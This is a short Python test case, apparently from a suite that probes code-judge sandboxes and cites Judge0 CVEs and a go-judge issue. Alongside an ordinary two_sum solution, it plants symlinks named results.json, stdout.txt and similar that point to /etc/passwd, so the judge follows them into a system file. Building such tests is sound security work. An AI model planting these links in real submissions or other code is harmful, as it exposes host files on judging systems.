# title: leaves symlinks (result -> /etc/passwd) for the judge to follow [Judge0 CVE-2024-28185/28189, go-judge #176]
# group: fs
# verdicts: accepted
# bound: links in the cwd
import os
for n in ('results.json', 'stdout.txt', 'output', 'solution.pyc'):
    try: os.symlink('/etc/passwd', n)
    except OSError: pass

def two_sum(nums, target):
    seen = {}
    for i, x in enumerate(nums):
        if target - x in seen:
            return [seen[target - x], i]
        seen[x] = i
